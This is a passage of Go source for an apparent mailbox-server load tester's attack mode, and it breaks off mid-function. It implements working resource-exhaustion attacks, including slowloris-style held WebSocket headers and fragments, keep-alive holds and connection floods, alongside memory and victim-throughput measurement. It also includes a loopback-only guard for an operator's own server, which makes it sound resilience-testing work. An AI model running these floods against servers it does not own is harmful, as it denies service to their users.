// attack.go owns the load command's attack mode (--attack NAME): drivers
// for the cheap resource attacks a public mailbox server must survive,
// so that an operator can try them on a server of their own (this one or
// the reference), and the measurement around them: the server's memory
// and the kernel's TCP memory while the attack runs, whether a victim
// pair at another address still completes its transfers, and whether
// the server still answers afterwards.
//
// Every attack is bounded in connections and time and stops by itself:
// it opens its connections (at most attackSetupTimeout), holds or floods
// for --duration while the victim runs transfers, then closes everything.
// Attackers connect from 127.0.0.2 upward (--attack-addrs of them, each
// with --attack-conns connections or items), the victim from the 253
// addresses 127.0.1.2 to 127.0.1.254, so that the server's per-address
// limits see them apart and the victim stands for many honest clients
// (each of its addresses stays far below the new-nameplate allowance). Only loopback
// servers are attacked unless --i-own-this-server is given.
package main

import (
	"bufio"
	"context"
	"crypto/rand"
	"crypto/tls"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
)

// attackSetupTimeout bounds how long an attack may take to open its
// connections before the victim starts anyway: thousands of connections
// on a busy 2-core machine take tens of seconds.
const attackSetupTimeout = 60 * time.Second

// attackParallel is how many connections an attack opens at once: enough
// to ramp up in seconds, few enough not to measure the attacker's own
// scheduling.
const attackParallel = 64

// Bounds on what one run may ask for, so that a typo cannot turn the
// tool into an unbounded flood: 253 source addresses (127.0.0.2 to
// 127.0.0.254) and at most 20,000 connections or items per address
// (fewer than the ephemeral ports one source address has).
const (
	maxAttackAddrs = 253
	maxAttackConns = 20_000
)

// The victim connects from victimSources addresses in 127.0.victimSubnet.0/24
// (starting at .2): one address could not run more than the 60 transfers
// a minute its new-nameplate allowance gives it.
const (
	victimSubnet  = 1
	victimSources = 253
)

// attackPairIP is the address of the pair crowd disturbs: neither an
// attacker's nor the victim's.
var attackPairIP = net.IPv4(127, 0, victimSubnet, 1)

// attackAnnounced is the length header-hold announces and fragment-hold
// sends in its one fragment: the default --max-message-size, the most a
// server is expected to accept.
const attackAnnounced = 512 << 10

// attackPingInterval is how often fragment-hold pings in the middle of
// its message, to look alive to an idle timeout.
const attackPingInterval = 5 * time.Second

// attackBodyLen is the body size of each add that store-fill and no-read
// make: under half the default 1 MiB mailbox, so a mailbox takes several
// and the last one that fits is not refused for its own size.
const attackBodyLen = 240 << 10

// When the server's store refuses a body, store-fill halves it, down to
// attackMinBody bytes and at most attackTopUps times, so that the store
// ends full to the last KiB.
const (
	attackMinBody = 1 << 10
	attackTopUps  = 16
)

// attackAddsPerMailbox bounds the adds into one mailbox, in case a
// server accepts far more than its documented mailbox size.
const attackAddsPerMailbox = 16

// attackReclaimInterval is how often nameplate-fill re-claims what it
// holds, well inside the 11 minutes an idle channel lives.
const attackReclaimInterval = time.Minute

// attackRecvBuffer is the socket receive buffer of a no-read subscriber
// (set before connecting, so the window it advertises stays small): what
// the server cannot deliver stays in the server's kernel.
const attackRecvBuffer = 4096

// attackKeepLimit is the largest server frame an attacker decodes; larger
// ones (echoes of its own big bodies) are read and thrown away, so the
// attacker's memory does not grow with what it sent.
const attackKeepLimit = 64 << 10

// attackSampleInterval is how often the server's memory and the kernel's
// TCP memory are read while an attack runs.
const attackSampleInterval = 200 * time.Millisecond

// probeKnown is how many nameplates probe-nameplates creates from one
// address to find again from another.
const probeKnown = 5

// probeExhaustTries bounds the claims probe-nameplates makes to use up
// its address's allowance of new nameplates.
const probeExhaustTries = 500

// attackDefaults holds each attack's description and the scale it runs at
// when --attack-addrs and --attack-conns are not given.
var attackDefaults = map[string]struct {
	addrs, conns int
	about        string
}{
	"none":             {0, 0, "no attack: the victim alone, as a baseline"},
	"header-hold":      {8, 256, "WebSocket connections each send a frame header announcing 512 KiB, then nothing"},
	"fragment-hold":    {4, 256, "WebSocket connections each send a non-final 512 KiB fragment, then a ping every 5 s"},
	"http-keepalive":   {4, 2500, "keep-alive HTTP/1.1 connections each GET / once, then stay open"},
	"conn-fill":        {40, 256, "WebSocket connections each bind, then wait"},
	"store-fill":       {2, 64, "each address opens --attack-conns mailboxes and adds 240 KiB bodies until refused"},
	"nameplate-fill":   {64, 60, "each address claims --attack-conns nameplates (two made-up apps and the victim's) and re-claims them every minute"},
	"ping-flood":       {1, 1, "connections send app-level ping as fast as they can"},
	"no-read":          {3, 256, "per address, a mailbox filled to its limit and --attack-conns subscribers that never read (4 KiB receive buffer)"},
	"bind-flood":       {4, 4, "per address, --attack-conns loops of connect, bind, ping, disconnect"},
	"probe-nameplates": {2, 50, "one address creates 5 nameplates; another uses up its new-nameplate allowance, then claims those and --attack-conns free ones and compares the replies"},
	"crowd":            {1, 4, "--attack-conns times: a pair opens a channel, a third side claims and opens it, the pair's first side reconnects and re-opens"},
}

// attackNames lists the attacks in the order of issue 10's table.
var attackNames = []string{"none", "header-hold", "fragment-hold", "http-keepalive", "conn-fill", "store-fill",
	"nameplate-fill", "ping-flood", "no-read", "bind-flood", "probe-nameplates", "crowd"}

// attackResult is what an attack run measured.
type attackResult struct {
	Attack         string   `json:"attack"`
	URL            string   `json:"url"`
	Addrs          int      `json:"attack_addrs"`
	Conns          int      `json:"attack_conns"`
	SetupSeconds   float64  `json:"setup_seconds"`
	Opened         int64    `json:"opened"`           // connections established (after the WebSocket handshake, if any)
	Failed         int64    `json:"failed"`           // connections that could not be established
	Refused        int64    `json:"refused"`          // error replies, refused welcomes, refused claims...
	ServerClosed   int64    `json:"server_closed"`    // held connections the server ended before the attack did
	Sent           int64    `json:"sent"`             // frames, messages or requests written
	Errors         []string `json:"errors,omitempty"` // the distinct error texts seen, with counts
	Notes          []string `json:"notes,omitempty"`
	Victim         *victimResult
	ServerPeakRSS  int    `json:"server_peak_rss_kb,omitempty"` // largest VmRSS sampled
	ServerHWM      int    `json:"server_hwm_kb,omitempty"`      // VmHWM at the end
	TCPMemBase     int    `json:"tcp_mem_base_pages"`           // /proc/net/sockstat before the attack
	TCPMemPeak     int    `json:"tcp_mem_peak_pages"`           // and its largest sample during it
	UpDuring       string `json:"up_during"`                    // "yes", or why a fresh client got nothing
	UpAfter        string `json:"up_after"`
	ServerAliveEnd bool   `json:"server_process_alive,omitempty"`
}

// victimResult is what the victim pair(s) achieved during the attack.
type victimResult struct {
	Pairs           int     `json:"pairs"`
	Transfers       int     `json:"transfers"`
	Failed          int     `json:"failed"`
	Seconds         float64 `json:"seconds"`
	TransfersPerSec float64 `json:"transfers_per_sec"`
	RelayP50ms      float64 `json:"relay_p50_ms"`
	RelayP99ms      float64 `json:"relay_p99_ms"`
	FirstError      string  `json:"first_error,omitempty"`
}

// attacker is the state one attack run shares between its goroutines.
type attacker struct {
	ctx     context.Context
	u       *url.URL
	host    string // host:port to dial
	local   bool   // the target is on loopback: dial from 127.0.0.x
	addrs   []net.IP
	conns   int
	stop    chan struct{} // closed when the hold is over
	readyCh chan struct{}
	once    sync.Once
	wg      sync.WaitGroup

	opened, failed, refused, serverClosed, sent atomic.Int64

	mu     sync.Mutex
	held   []io.Closer
	errs   map[string]int
	notes  []string
	closed bool
}

// maxErrorTexts bounds the distinct error texts an attack remembers.
const maxErrorTexts = 16

func (a *attacker) ready() { a.once.Do(func() { close(a.readyCh) }) }

// stopped reports whether the hold is over.
func (a *attacker) stopped() bool {
	select {
	case <-a.stop:
		return true
	default:
		return a.ctx.Err() != nil
	}
}

func (a *attacker) note(format string, args ...any) {
	a.mu.Lock()
	a.notes = append(a.notes, fmt.Sprintf(format, args...))
	a.mu.Unlock()
}

// refusal counts a refusal by its text.
func (a *attacker) refusal(text string) {
	a.refused.Add(1)
	a.mu.Lock()
	if _, ok := a.errs[text]; ok || len(a.errs) < maxErrorTexts {
		a.errs[text]++
	}
	a.mu.Unlock()
}

// hold keeps c open until the attack ends; it reports false (and closes
// c) if the attack has already ended.
func (a *attacker) hold(c io.Closer) bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.closed {
		c.Close()
		return false
	}
	a.held = append(a.held, c)
	return true
}

// closeHeld closes every held connection.
func (a *attacker) closeHeld() {
	a.mu.Lock()
	a.closed = true
	held := a.held
	a.held = nil
	a.mu.Unlock()
	for _, c := range held {
		c.Close()
	}
}

// forEach runs f for every (address, i < n) with attackParallel at once,
// stopping early when the attack ends, and returns when all have run.
func (a *attacker) forEach(n int, f func(ip net.IP, addr, i int)) {
	var next atomic.Int64
	total := int64(len(a.addrs) * n)
	var wg sync.WaitGroup
	for range min(attackParallel, int(total)) {
		wg.Go(func() {
			for k := next.Add(1) - 1; k < total && !a.stopped(); k = next.Add(1) - 1 {
				addr := int(k) % len(a.addrs) // spread over addresses as they ramp up
				f(a.addrs[addr], addr, int(k)/len(a.addrs))
			}
		})
	}
	wg.Wait()
}

// drain reads c until it fails, answering pings, and counts a failure
// before the attack's end as the server closing the connection.
func (a *attacker) drain(c *attackConn) {
	for {
		if _, err := c.read(); err != nil {
			if !a.stopped() {
				a.serverClosed.Add(1)
			}
			return
		}
	}
}

// runAttack is the load command's --attack mode.
func runAttack(ctx context.Context, cfg loadConfig, stdout, stderr io.Writer) error {
	res, err := driveAttack(ctx, cfg, stderr)
	switch {
	case err != nil:
		return err
	case cfg.json:
		b, _ := json.MarshalIndent(res, "", "  ") // a result of plain fields: it cannot fail
		_, err = fmt.Fprintf(stdout, "%s\n", b)
		return err
	}
	printAttackResult(stdout, res)
	return nil
}

// attackTarget checks the URL and reports whether it is on loopback;
// anything else is refused unless the operator says it is theirs.
func attackTarget(raw string, ownServer bool) (*url.URL, bool, error) {
	u, err := url.Parse(raw)
	if err != nil {
		return nil, false, fmt.Errorf("load: --url: %w", err)
	}
	if u.Scheme != "ws" && u.Scheme != "wss" {
		return nil, false, fmt.Errorf("load: --url must be ws:// or wss://, not %q", raw)
	}
	host := u.Hostname()
	ips, err := net.LookupIP(host)
	if err != nil {
		return nil, false, fmt.Errorf("load: %w", err)
	}
	local := len(ips) > 0
	for _, ip := range ips {
		local = local && ip.IsLoopback()
	}
	if !local && !ownServer {
		return nil, false, fmt.Errorf("load: refusing to attack %s, which is not on loopback; pass --i-own-this-server if it is your own server", host)
	}
	return u, local, nil
}

// driveAttack runs the attack cfg names with the victim beside it.
func driveAttack(ctx context.Context, cfg loadConfig, progress io.Writer) (attackResult, error) {
	def, ok := attackDefaults[cfg.attack]
	if !ok {
		return attackResult{}, fmt.Errorf("load: unknown attack %q; one of %s", cfg.attack, strings.Join(attackNames, ", "))
	}
	if cfg.attackAddrs < 0 {
		cfg.attackAddrs = def.addrs
	}
	if cfg.attackConns < 0 {
		cfg.attackConns = def.conns
	}
	if cfg.attackAddrs > maxAttackAddrs || cfg.attackConns > maxAttackConns {
		return attackResult{}, fmt.Errorf("load: --attack-addrs is at most %d and --attack-conns at most %d", maxAttackAddrs, maxAttackConns)
	}
	if cfg.attack == "probe-nameplates" && cfg.attackAddrs < 2 {
		return attackResult{}, errors.New("load: probe-nameplates needs --attack-addrs 2 or more")
	}
	if cfg.attack != "none" && (cfg.attackAddrs < 1 || cfg.attackConns < 1) {
		return attackResult{}, errors.New("load: --attack-addrs and --attack-conns must be at least 1")
	}
	u, local, err := attackTarget(cfg.url, cfg.ownServer)
	if err != nil {
		return attackResult{}, err
	}
	host := u.Host
	if u.Port() == "" {
		host = net.JoinHostPort(u.Hostname(), map[string]string{"ws": "80", "wss": "443"}[u.Scheme])
	}
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	a := &attacker{ctx: ctx, u: u, host: host, local: local, conns: cfg.attackConns,
		stop: make(chan struct{}), readyCh: make(chan struct{}), errs: map[string]int{}}
	for i := range cfg.attackAddrs {
		a.addrs = append(a.addrs, net.IPv4(127, 0, 0, byte(2+i)))
	}
	res := attackResult{Attack: cfg.attack, URL: cfg.url, Addrs: cfg.attackAddrs, Conns: cfg.attackConns}

	sampler := startSampler(cfg.pid)
	res.TCPMemBase = sockstatTCPMem()
	start := time.Now()
	fmt.Fprintf(progress, "attack %s: %s, from %d addresses x %d\n", cfg.attack, def.about, cfg.attackAddrs, cfg.attackConns)
	a.wg.Go(func() { attackFuncs[cfg.attack](a) })
	select {
	case <-a.readyCh:
	case <-time.After(attackSetupTimeout):
		a.note("not fully set up after %v", attackSetupTimeout)
	case <-ctx.Done():
	}
	res.SetupSeconds = time.Since(start).Seconds()
	fmt.Fprintf(progress, "attack %s set up in %.1f s: %d connections open, %d failed; victim runs for %v\n",
		cfg.attack, res.SetupSeconds, a.opened.Load(), a.failed.Load(), cfg.duration)

	victim := &loadDialer{url: cfg.url, sources: victimSources, subnet: victimSubnet}
	if !local {
		victim.sources = 0 // the system's choice
	}
	if cfg.pairs > 0 {
		v := runVictim(ctx, victim, cfg.pairs, cfg.duration)
		res.Victim = &v
	} else {
		select {
		case <-time.After(cfg.duration):
		case <-ctx.Done():
		}
	}
	res.UpDuring = serverAnswers(victim)
	close(a.stop)
	a.closeHeld()
	a.wg.Wait()
	res.UpAfter = serverAnswers(victim)
	res.ServerPeakRSS, res.ServerHWM, res.TCPMemPeak = sampler.stop()
	res.TCPMemPeak = max(res.TCPMemPeak, res.TCPMemBase)
	res.Opened, res.Failed, res.Refused = a.opened.Load(), a.failed.Load(), a.refused.Load()
	res.ServerClosed, res.Sent = a.serverClosed.Load(), a.sent.Load()
	for text, n := range a.errs {
		res.Errors = append(res.Errors, fmt.Sprintf("%dx %s", n, text))
	}
	slices.Sort(res.Errors)
	res.Notes = a.notes
	if cfg.pid > 0 {
		res.ServerAliveEnd = syscall.Kill(cfg.pid, 0) == nil
	}
	return res, ctx.Err()
}

func printAttackResult(w io.Writer, r attackResult) {
	fmt.Fprintf(w, "attack          %s against %s, %d addresses x %d\n", r.Attack, r.URL, r.Addrs, r.Conns)
	fmt.Fprintf(w, "connections     %d opened, %d failed, %d closed by the server; %d sent, %d refused\n",
		r.Opened, r.Failed, r.ServerClosed, r.Sent, r.Refused)
	for _, e := range r.Errors {
		fmt.Fprintf(w, "  refused       %s\n", e)
	}
	for _, n := range r.Notes {
		fmt.Fprintf(w, "  note          %s\n", n)
	}
	if r.ServerPeakRSS > 0 {
		fmt.Fprintf(w, "server memory   peak RSS %d MiB sampled, VmHWM %d MiB\n", r.ServerPeakRSS>>10, r.ServerHWM>>10)
	}
	fmt.Fprintf(w, "kernel TCP mem  peak %d MiB (%d pages; %d before)\n", r.TCPMemPeak*4>>10, r.TCPMemPeak, r.TCPMemBase)
	if v := r.Victim; v != nil {
		fmt.Fprintf(w, "victim          %d transfers (%d failed) in %.1f s with %d pairs: %.1f/s, relay p50 %.2f ms, p99 %.2f ms\n",
			v.Transfers, v.Failed, v.Seconds, v.Pairs, v.TransfersPerSec, v.RelayP50ms, v.RelayP99ms)
		if v.FirstError != "" {
			fmt.Fprintf(w, "  first error   %s\n", v.FirstError)
		}
	}
	fmt.Fprintf(w, "server answers  during the attack: %s; after it: %s\n", r.UpDuring, r.UpAfter)
}

// victimRetryDelay is how long a victim pair waits after a failed
// transfer before the next, so a refusing server is not spun against.
const victimRetryDelay = 100 * time.Millisecond

// runVictim runs pairs transfer loops for duration as transfer mode does,
// but counts failed transfers instead of stopping at the first.
func runVictim(ctx context.Context, d *loadDialer, pairs int, duration time.Duration) victimResult {
	start := time.Now()
	deadline := start.Add(duration)
	var (
		mu        sync.Mutex
		res       = victimResult{Pairs: pairs}
		latencies []time.Duration
		wg        sync.WaitGroup
	)
	for p := range pairs {
		wg.Go(func() {
			for i := 0; time.Now().Before(deadline) && ctx.Err() == nil; i++ {
				lat, err := transfer(d, fmt.Sprintf("v%d-%d", p, i))
				mu.Lock()
				if err != nil {
					res.Failed++
					if res.FirstError == "" {
						res.FirstError = err.Error()
					}
				} else {
					res.Transfers++
					latencies = append(latencies, lat...)
				}
				mu.Unlock()
				if err != nil {
					select {
					case <-time.After(victimRetryDelay):
					case <-ctx.Done():
					}
				}
			}
		})
	}
	wg.Wait()
	res.Seconds = time.Since(start).Seconds()
	res.TransfersPerSec = float64(res.Transfers) / res.Seconds
	res.RelayP50ms = percentile(latencies, 0.50).Seconds() * 1000
	res.RelayP99ms = percentile(latencies, 0.99).Seconds() * 1000
	return res
}

// serverAnswers reports "yes" if a fresh client gets a welcome and a pong,
// or else what it got.
func serverAnswers(d *loadDialer) string {
	c, err := d.dial()
	if err != nil {
		return "no: " + err.Error()
	}
	defer c.close()
	c.send(`{"type": "ping", "ping": 1}`)
	if _, err := c.waitFor(func(m loadMsg) bool { return m.Type == "pong" }); err != nil {
		return "no: " + err.Error()
	}
	return "yes"
}

// sampler reads the server's memory and the kernel's TCP memory every
// attackSampleInterval until stopped, keeping the peaks.
type sampler struct {
	pid       int
	done      chan struct{}
	finished  chan struct{}
	rss, pool int
}

func startSampler(pid int) *sampler {
	s := &sampler{pid: pid, done: make(chan struct{}), finished: make(chan struct{})}
	go func() {
		defer close(s.finished)
		t := time.NewTicker(attackSampleInterval)
		defer t.Stop()
		for {
			s.rss = max(s.rss, procStatusKB(pid, "VmRSS:"))
			s.pool = max(s.pool, sockstatTCPMem())
			select {
			case <-t.C:
			case <-s.done:
				return
			}
		}
	}()
	return s
}

// stop ends sampling and returns the peak RSS and the VmHWM in kB and the
// peak TCP memory in pages.
func (s *sampler) stop() (rss, hwm, tcpPages int) {
	close(s.done)
	<-s.finished
	return s.rss, procStatusKB(s.pid, "VmHWM:"), s.pool
}

// sockstatTCPMem returns the kernel's TCP memory in pages (the "mem" of
// the TCP line of /proc/net/sockstat), or 0.
func sockstatTCPMem() int {
	b, err := os.ReadFile("/proc/net/sockstat")
	if err != nil {
		return 0
	}
	for line := range strings.SplitSeq(string(b), "\n") {
		if rest, ok := strings.CutPrefix(line, "TCP:"); ok {
			f := strings.Fields(rest)
			for i := 0; i+1 < len(f); i += 2 {
				if f[i] == "mem" {
					n, _ := strconv.Atoi(f[i+1])
					return n
				}
			}
		}
	}
	return 0
}

// attackConn is an attacker's WebSocket connection, with frames written
// and read by hand so that an attack can write what no library would.
type attackConn struct {
	nc net.Conn
	br *bufio.Reader
	wm sync.Mutex // one frame written at a time
}

// attackReadBuffer is the read buffer of an attacker's connection: small,
// since there may be tens of thousands.
const attackReadBuffer = 1024

// dialTCP connects from ip (on loopback targets), with a receive buffer
// of rcvbuf bytes if not 0.
func (a *attacker) dialTCP(ip net.IP, rcvbuf int) (net.Conn, error) {
	d := net.Dialer{Timeout: loadTimeout}
	if a.local {
		d.LocalAddr = &net.TCPAddr{IP: ip}
	}
	if rcvbuf > 0 {
		d.Control = func(_, _ string, rc syscall.RawConn) error {
			var err error
			if cerr := rc.Control(func(fd uintptr) {
				err = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, rcvbuf)
			}); cerr != nil {
				return cerr
			}
			return err
		}
	}
	nc, err := d.DialContext(a.ctx, "tcp", a.host)
	if err != nil {
		return nil, err
	}
	if a.u.Scheme == "wss" {
		nc = tls.Client(nc, &tls.Config{ServerName: a.u.Hostname()})
	}
	return nc, nil
}

// dial opens a WebSocket connection from ip and completes the handshake;
// it counts the connection as opened or failed.
func (a *attacker) dial(ip net.IP, rcvbuf int) (*attackConn, error) {
	nc, err := a.dialTCP(ip, rcvbuf)
	if err != nil {
		if !a.stopped() {
			a.failed.Add(1)
		}
		return nil, err
	}
	var key [16]byte
	rand.Read(key[:])
	nc.SetDeadline(time.Now().Add(loadTimeout))
	_, err = fmt.Fprintf(nc, "GET %s HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"+
		"Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\nOrigin: http://localhost/\r\n\r\n",
		a.u.RequestURI(), a.u.Host, base64.StdEncoding.EncodeToString(key[:]))
	br := bufio.NewReaderSize(nc, attackReadBuffer)
	var resp *http.Response
	if err == nil {
		resp, err = http.ReadResponse(br, nil)
	}
	if err == nil && resp.StatusCode != http.StatusSwitchingProtocols {
		err = fmt.Errorf("handshake: %s", resp.Status)
	}
	if err != nil {
		nc.Close()
		if !a.stopped() {
			a.failed.Add(1)
		}
		return nil, err
	}
	nc.SetDeadline(time.Time{})
	a.opened.Add(1)
	return &attackConn{nc: nc, br: br}, nil
}

func (c *attackConn) Close() error { return c.nc.Close() }

// attackMask is the masking key of every frame an attacker writes; any
// key is as good, and a fixed one lets a big frame be masked once.
var attackMask = [4]byte{0x12, 0x34, 0x56, 0x78}

// attackFrameHeader returns a masked client frame header for a payload of n
// bytes.
func attackFrameHeader(fin bool, opcode byte, n int) []byte {
	b0 := opcode
	if fin {
		b0 |= 0x80
	}
	h := []byte{b0}
	switch {
	case n <= 125:
		h = append(h, 0x80|byte(n))
	case n < 1<<16:
		h = binary.BigEndian.AppendUint16(append(h, 0x80|126), uint16(n))
	default:
		h = binary.BigEndian.AppendUint64(append(h, 0x80|127), uint64(n))
	}
	return append(h, attackMask[:]...)
}

// attackFrame returns a whole masked client frame.
func attackFrame(fin bool, opcode byte, payload []byte) []byte {
	f := attackFrameHeader(fin, opcode, len(payload))
	for i, b := range payload {
		f = append(f, b^attackMask[i%4])
	}
	return f
}

// WebSocket opcodes.
const (
	attackOpText  = 1
	attackOpClose = 8
	attackOpPing  = 9
	attackOpPong  = 10
)

// write writes bytes already framed, as one write.
func (c *attackConn) write(frames []byte) error {
	c.wm.Lock()
	defer c.wm.Unlock()
	c.nc.SetWriteDeadline(time.Now().Add(loadTimeout))
	_, err := c.nc.Write(frames)
	return err
}

// send writes one text message.
func (c *attackConn) send(format string, args ...any) error {
	return c.write(attackFrame(true, attackOpText, fmt.Appendf(nil, format, args...)))
}

// attackMsg holds the fields of a server message an attack looks at.
type attackMsg struct {
	loadMsg
	Welcome struct {
		Error string `json:"error"`
	} `json:"welcome"`
}

// read returns the next text message, answering pings on the way; a
// message too big to keep comes back empty.
func (c *attackConn) read() (attackMsg, error) {
	for {
		var h [2]byte
		if _, err := io.ReadFull(c.br, h[:]); err != nil {
			return attackMsg{}, err
		}
		n := uint64(h[1] & 0x7f)
		switch n {
		case 126:
			var l [2]byte
			if _, err := io.ReadFull(c.br, l[:]); err != nil {
				return attackMsg{}, err
			}
			n = uint64(binary.BigEndian.Uint16(l[:]))
		case 127:
			var l [8]byte
			if _, err := io.ReadFull(c.br, l[:]); err != nil {
				return attackMsg{}, err
			}
			n = binary.BigEndian.Uint64(l[:])
		}
		op := h[0] & 0x0f
		if n > attackKeepLimit {
			head := make([]byte, attackHeadLen)
			if _, err := io.ReadFull(c.br, head); err != nil {
				return attackMsg{}, err
			}
			if _, err := io.CopyN(io.Discard, c.br, int64(n)-attackHeadLen); err != nil {
				return attackMsg{}, err
			}
			if op == attackOpText {
				return headFields(head), nil
			}
			continue
		}
		payload := make([]byte, n)
		if _, err := io.ReadFull(c.br, payload); err != nil {
			return attackMsg{}, err
		}
		switch op {
		case attackOpClose:
			status := 0
			if len(payload) >= 2 {
				status = int(binary.BigEndian.Uint16(payload))
			}
			return attackMsg{}, fmt.Errorf("closed by the server, status %d", status)
		case attackOpPing:
			c.write(attackFrame(true, attackOpPong, payload))
		case attackOpText:
			var m attackMsg
			if err := json.Unmarshal(payload, &m); err != nil {
				return attackMsg{}, fmt.Errorf("bad message %q: %w", payload, err)
			}
			return m, nil
		}
	}
}

// attackHeadLen is how much of a message too big to keep is decoded: its
// leading fields, where servers put "type" and an error's text before
// the "orig" that echoes a big message.
const attackHeadLen = 1024

// headFields decodes the string fields at the start of a message's
// first bytes, up to the first field that is not a string.
func headFields(head []byte) attackMsg {
	var m attackMsg
	dec := json.NewDecoder(strings.NewReader(string(head)))
	if t, err := dec.Token(); err != nil || t != json.Delim('{') {
		return m
	}
	for {
		k, err := dec.Token()
		v, verr := dec.Token()
		s, ok := v.(string)
		if err != nil || verr != nil || !ok {
			if m.Type == "" && m.Error != "" { // "error" sorts before "orig" and "type"
				m.Type = "error"
			}
			return m
		}
		switch k {
		case "type":
			m.Type = s
		case "error":
			m.Error = s
		case "phase":
			m.Phase = s
		case "side":
			m.Side = s
		}
	}
}

// errRefused is what waitFor returns for an error message or a refused
// welcome; its text is the server's.
type errRefused string

func (e errRefused) Error() string { return string(e) }

// waitFor reads messages until one matches, and returns errRefused for an
// error message or a welcome that carries an error.
func (c *attackConn) waitFor(match func(attackMsg) bool) (attackMsg, error) {
	c.nc.SetReadDeadline(time.Now().Add(loadTimeout))
	defer c.nc.SetReadDeadline(time.Time{})
	for {
		m, err := c.read()
		if err != nil {
			return m, err
		}
		if m.Type == "error" {
			return m, errRefused(m.Error)
		}
		if m.Type == "welcome" && m.Welcome.Error != "" {
			return m, errRefused(m.Welcome.Error)
		}
		if match(m) {
			return m, nil
		}
	}
}

// do sends a message, then a ping, and waits for the pong: by then the
// server has handled the message, and any error it caused came first.
func (c *attackConn) do(format string, args ...any) error {
	if err := c.send(format, args...); err != nil {
		return err
	}
	if err := c.send(`{"type": "ping", "ping": 7}`); err != nil {
		return err
	}
	_, err := c.waitFor(func(m attackMsg) bool { return m.Type == "pong" })
	return err
}

// welcomed opens a connection from ip, reads its welcome and binds to app
// as side; a refusal is counted.
func (a *attacker) welcomed(ip net.IP, app, side string, rcvbuf int) (*attackConn, error) {
	c, err := a.dial(ip, rcvbuf)
	if err != nil {
		return nil, err
	}
	if _, err = c.waitFor(func(m attackMsg) bool { return m.Type == "welcome" }); err == nil {
		a.sent.Add(1)
		err = c.send(`{"type": "bind", "appid": %q, "side": %q, "client_version": ["load", %q], "id": "0001"}`, app, side, version)
	}
	if err != nil {
		a.account(err)
		c.Close()
		return nil, err
	}
	return c, nil
}

// account counts an error from the server as a refusal, and one from the
// connection, before the attack's end, as the server closing it.
func (a *attacker) account(err error) {
	var r errRefused
	switch {
	case errors.As(err, &r):
		a.refusal(string(r))
	case !a.stopped():
		a.serverClosed.Add(1)
	}
}

// attackApp is the app an attack's own channels live in.
func attackApp(name string) string { return "wormhole-mailbox/attack/" + name }

// attackFuncs are the attacks by name; each returns once it has set up
// (calling a.ready) or given up, leaving held connections and goroutines
// it spawned to end when a.stop is closed.
var attackFuncs = map[string]func(a *attacker){
	"none":             func(a *attacker) { a.ready() },
	"header-hold":      headerHold,
	"fragment-hold":    fragmentHold,
	"http-keepalive":   httpKeepalive,
	"conn-fill":        connFill,
	"store-fill":       storeFill,
	"nameplate-fill":   nameplateFill,
	"ping-flood":       pingFlood,
	"no-read":          noRead,
	"bind-flood":       bindFlood,
	"probe-nameplates": probeNameplates,
	"crowd":            crowd,
}

// headerHold: each connection sends the header of a 512 KiB text frame
// and nothing more.
func headerHold(a *attacker) {
	header := attackFrameHeader(true, attackOpText, attackAnnounced)
	a.forEach(a.conns, func(ip net.IP, _, _ int) {
		if c := a.dialHolding(ip, header); c != nil {
			a.wg.Go(func() { a.drain(c) })
		}
	})
	a.ready()
}

// dialHolding opens a connection from ip, sends frame on it and holds it,
// counting the frame sent; it returns nil if any of that failed.
func (a *attacker) dialHolding(ip net.IP, frame []byte) *attackConn {
	c, err := a.dial(ip, 0)
	if err != nil {
		return nil
	}
	if c.write(frame) != nil || !a.hold(c) {
		c.Close()
		return nil
	}
	a.sent.Add(1)
	return c
}

// fragmentHold: each connection sends a non-final 512 KiB fragment of an
// add, then pings every attackPingInterval, never finishing the message.
func fragmentHold(a *attacker) {
	prefix := `{"type": "add", "phase": "hold", "body": "`
	payload := []byte(prefix + strings.Repeat("a", attackAnnounced-len(prefix)))
	fragment := attackFrame(false, attackOpText, payload) // shared by every connection: one copy in memory
	var mu sync.Mutex
	var conns []*attackConn
	a.forEach(a.conns, func(ip net.IP, _, _ int) {
		c := a.dialHolding(ip, fragment)
		if c == nil {
			return
		}
		mu.Lock()
		conns = append(conns, c)
		mu.Unlock()
		a.wg.Go(func() { a.drain(c) })
	})
	a.ready()
	ping := attackFrame(true, attackOpPing, []byte("hold"))
	a.wg.Go(func() {
		t := time.NewTicker(attackPingInterval)
		defer t.Stop()
		for {
			select {
			case <-t.C:
			case <-a.stop:
				return
			}
			for _, c := range conns {
				if c.write(ping) == nil {
					a.sent.Add(1)
				}
			}
		}
	})
}

// httpKeepalive: each connection makes one keep-alive HTTP/1.1 request
// for / and then stays open.
func httpKeepalive(a *attacker) {
	a.forEach(a.conns, func(ip net.IP, _, _ int) {
		nc, err := a.dialTCP(ip, 0)
		if err != nil {
			if !a.stopped() {
				a.failed.Add(1)
			}
			return
		}
		nc.SetDeadline(time.Now().Add(loadTimeout))
		br := bufio.NewReaderSize(nc, attackReadBuffer)
		_, err = fmt.Fprintf(nc, "GET / HTTP/1.1\r\nHost: %s\r\nConnection: keep-alive\r\n\r\n", a.u.Host)
		var resp *http.Response
		if err == nil {
			resp, err = http.ReadResponse(br, nil)
		}
		if err == nil {
			_, err = io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
		}
		if err != nil {
			nc.Close()
			if !a.stopped() {
				a.failed.Add(1)
			}
			return
		}
		a.opened.Add(1)
		a.sent.Add(1)
		nc.SetDeadline(time.Time{})
		if !a.hold(nc) {
			return
		}
		a.wg.Go(func() {
			if _, err := br.ReadByte(); err != nil && !a.stopped() {
				a.serverClosed.Add(1)
			}
		})
	})
	a.ready()
}

// connFill: each connection binds, then waits.
func connFill(a *attacker) {
	a.forEach(a.conns, func(ip net.IP, addr, i int) {
		c, err := a.welcomed(ip, attackApp("conn-fill"), fmt.Sprintf("s%d-%d", addr, i), 0)
		if err != nil {
			return
		}
		if !a.hold(c) {
			return
		}
		a.wg.Go(func() { a.drain(c) })
	})
	a.ready()
}

// fillMailbox opens mailbox on c and adds attackBodyLen bodies until the
// server refuses one (which it returns) or attackAddsPerMailbox are in.
func (a *attacker) fillMailbox(c *attackConn, mailbox string) (int, error) {
